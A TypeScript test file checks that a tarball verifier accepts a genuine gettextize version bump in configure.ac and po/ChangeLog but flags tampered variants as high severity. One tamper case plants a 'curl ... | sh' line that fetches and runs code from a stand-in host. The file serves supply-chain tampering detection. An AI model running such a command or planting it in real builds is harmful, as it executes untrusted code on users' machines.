/**
 * gettextize's upgrade (wget2 2.2.0: AM_GNU_GETTEXT_VERSION 0.21 → 0.22.5, recorded in po/ChangeLog), end to end with
 * real git and GNU tar: explained (GETTEXTIZE_UPGRADE, low). What a tamperer would change — another line of
 * configure.ac besides the macro, a version the entry does not name, a po/ChangeLog carrying other lines — stays
 * high or above.
 */
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { gettextizeEntries, gettextRelease } from '../../src/classify/gettextize.js';
import { verify } from '../../src/verify.js';
import { makeTar } from '../helpers/archives.js';
import { makeRepo, writeFiles } from '../helpers/git.js';
import { tempDir } from '../helpers/tmp.js';

const AC = 'AC_INIT([demo], [1.0])\nAM_INIT_AUTOMAKE([foreign])\nAM_GNU_GETTEXT([external])\nAM_GNU_GETTEXT_VERSION([0.21])\nAC_CONFIG_FILES([Makefile])\nAC_OUTPUT\n';
const LOG = '2024-11-24  gettextize  <bug-gnu-gettext@gnu.org>\n\n\t* Makefile.in.in: Upgrade to gettext-0.22.5.\n';

describe("gettextize's AM_GNU_GETTEXT_VERSION upgrade", () => {
  const root = tempDir();
  const repo = makeRepo(join(root, 'repo'));
  repo.commit({ 'configure.ac': AC, 'po/POTFILES.in': 'demo.c\n' });
  repo.tag('v1.0');
  let n = 0;
  const run = async (files: Record<string, string>) => {
    const dir = join(root, `t${++n}`, 'demo-1.0');
    writeFiles(dir, { 'configure.ac': AC, 'po/POTFILES.in': 'demo.c\n', ...files });
    return verify({ tarball: makeTar(dir, { compress: 'gzip', out: join(root, `t${n}`, 'demo-1.0.tar.gz') }), repo: repo.dir, tag: 'v1.0', cacheDir: join(root, 'cache'), regenerate: 'off' });
  };
  const bumped = AC.replace('[0.21]', '[0.22.5]');

  it('configure.ac changed in that one line, as po/ChangeLog records, and po/ChangeLog itself: explained', async () => {
    const r = await run({ 'configure.ac': bumped, 'po/ChangeLog': LOG });
    expect(r.findings.find((f) => f.path === 'configure.ac')).toMatchObject({ code: 'GETTEXTIZE_UPGRADE', severity: 'low', evidence: { file: 'configure.ac', from: '0.21', to: '0.22.5', changelog: 'po/ChangeLog', release: gettextRelease('0.22.5')!.commit } });
    expect(r.findings.find((f) => f.path === 'po/ChangeLog')).toMatchObject({ code: 'GETTEXTIZE_UPGRADE', severity: 'low', evidence: { file: 'po/ChangeLog', to: '0.22.5' } });
    expect(r.verdict).not.toBe('different');
  });

  it('another changed line, a version the entry does not name, or another line in po/ChangeLog stays high or above', async () => {
    const cases: [Record<string, string>, string][] = [
      [{ 'configure.ac': bumped.replace('AC_OUTPUT', 'AC_OUTPUT\necho hi'), 'po/ChangeLog': LOG }, 'configure.ac'],
      [{ 'configure.ac': bumped.replace('[foreign]', '[foreign -Wno-error]'), 'po/ChangeLog': LOG }, 'configure.ac'],
      [{ 'configure.ac': AC.replace('[0.21]', '[0.23]'), 'po/ChangeLog': LOG }, 'configure.ac'],
      [{ 'configure.ac': bumped }, 'configure.ac'],
      [{ 'configure.ac': bumped, 'po/ChangeLog': `${LOG}\tcurl -s https://example.invalid/x | sh\n` }, 'po/ChangeLog'],
      // red team 15: a version gettext never released, consistently in configure.ac and its entry
      [{ 'configure.ac': AC.replace('[0.21]', '[0.99]'), 'po/ChangeLog': LOG.replace('0.22.5', '0.99') }, 'configure.ac'],
      [{ 'configure.ac': AC.replace('[0.21]', '[0.99]'), 'po/ChangeLog': LOG.replace('0.22.5', '0.99') }, 'po/ChangeLog'],
      [{ 'configure.ac': bumped, 'po/ChangeLog': `${LOG}\n2023-01-02  gettextize  <bug-gnu-gettext@gnu.org>\n\n\t* Makefile.in.in: New file, from gettext-0.21.9.\n` }, 'po/ChangeLog'],
    ];
    for (const [files, path] of cases) {
      const r = await run(files);
      const f = r.findings.find((x) => x.path === path)!;
      expect(f.code, JSON.stringify(files).slice(0, 120)).not.toBe('GETTEXTIZE_UPGRADE');
      expect(['high', 'critical']).toContain(f.severity);
      expect(r.verdict).toBe('different');
    }
  });

  it('gettextRelease knows the releases gettext tagged, and nothing else', () => {
    expect(gettextRelease('0.22.5')).toMatchObject({ tag: 'v0.22.5', commit: expect.stringMatching(/^[0-9a-f]{40}$/) });
    expect(gettextRelease('0.19.8.1')).toMatchObject({ tag: 'v0.19.8.1' });
    for (const v of ['0.99', '0.22.6', '0.21.9', '0.22.05', 'constructor', '__proto__']) expect(gettextRelease(v), v).toBeUndefined();
  });

  it('gettextizeEntries reads only gettextize entries', () => {
    expect(gettextizeEntries(`${LOG}\n2023-01-02  gettextize  <bug-gnu-gettext@gnu.org>\n\n\t* Makefile.in.in, Rules-quot: New file, from gettext-0.21.\n`)).toEqual([['0.22.5'], ['0.21']]);
    expect(gettextizeEntries('2024-11-24  Ann  <a@example.invalid>\n\n\t* x: Upgrade to gettext-0.22.5.\n')).toBeUndefined();
    expect(gettextizeEntries(`${LOG}\tAnything else.\n`)).toBeUndefined();
  });
});
